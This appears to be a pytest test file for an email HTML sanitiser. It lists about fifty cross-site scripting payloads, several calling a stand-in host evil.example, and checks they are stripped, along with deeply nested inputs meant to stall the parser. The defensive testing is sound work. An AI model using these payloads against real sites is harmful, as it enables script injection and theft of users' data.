"""HTML from strangers never runs, loads or styles anything."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from integrations.email.sanitising import ATTRIBUTES, TAGS, sanitised, text_of

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://tracker.example/p.gif'>",
    "<img srcset='x 1x' src=cid:1>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/admin/logout'>x</a>",
    "<a href='https://ok.example' onclick='alert(1)' style='position:fixed' target=_self rel=opener>x</a>",
    "<p onmouseover=alert(1) style='background:url(javascript:1)' class=admin id=csrf>x</p>",
    "<style>@import url(//evil.example)</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=//evil.example>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select><option>x</select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<table background='javascript:alert(1)'><tr><td>x</table>",
    "<div hx-get='/admin' hx-trigger=load>x</div>",
    "<div data-hx-post='/merge'>x</div>",
    "<x-y onclick=alert(1)>x</x-y>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>1</script>]]>",
    "<a href=\"https://x.example/'onmouseover='alert(1)\">x</a>",
    '<p title="a" onclick=alert(1)//">x</p>',
    "<<p>script>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<a\x00href='javascript:alert(1)'>x</a>",
    "</div></body></html><script>1",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<picture><source srcset=//evil.example></picture>",
]


class Inspector(HTMLParser):
    """Every tag and attribute of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def is_harmless(html: str) -> bool:
    allowed = {tag: ATTRIBUTES.get(tag, set()) | ({"rel", "target"} if tag == "a" else set()) for tag in TAGS}
    return all(
        tag in TAGS
        and set(attributes) <= allowed[tag]
        and re.match(r"(https?:|mailto:|tel:|$)", attributes.get("href", "")) is not None
        and ("href" not in attributes or "noopener" in attributes["rel"])
        for tag, attributes in Inspector(html).found
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_stays(attack: str) -> None:
    for html in (attack, f"<div>{attack}</div>", f"<table><tr>{attack}", f"<p>a{attack}<b>c", attack + attack):
        clean = sanitised(html)
        assert is_harmless(clean)
        assert not re.search(
            r"<\s*/?\s*(script|style|form|iframe|svg|meta|img|object|embed|link|base)", clean, re.IGNORECASE
        )


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from([*ATTACKS, "<b>", "</b>", "<a href=", "'", '"', ">", "<", "x", "<!--", "-->"]), max_size=8)
)
def test_attacks_put_together_do_not_help(pieces: list[str]) -> None:
    clean = sanitised("".join(pieces))
    assert is_harmless(clean)
    assert is_harmless(sanitised(clean))


def test_what_is_harmless_stays() -> None:
    html = '<p>Hello <b>Jane</b>, see <a href="https://example.com/a?b=1">this</a></p><ul><li>one</li></ul>'
    clean = sanitised(html)
    assert "<b>Jane</b>" in clean
    assert 'href="https://example.com/a?b=1"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean
    assert "<li>one</li>" in clean


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 70_000,
        "<b a=%d>" * 20_000,
        "<p>" * 60_000,
        "<table><td>" * 18_000,
        "<" * 200_000,
        "<a href='" * 20_000,
    ],
)
def test_crafted_html_takes_no_longer_than_another(html: str) -> None:
    started = time.perf_counter()
    sanitised(html)
    text_of(html)
    assert time.perf_counter() - started < 8  # unguarded, 50,000 nested elements take the sanitiser 12 s


def test_html_too_deep_for_a_mail_is_left_out_but_read() -> None:
    html = "<div>" * 1_000 + "still here"
    assert sanitised(html) == ""
    assert text_of(html).strip() == "still here"
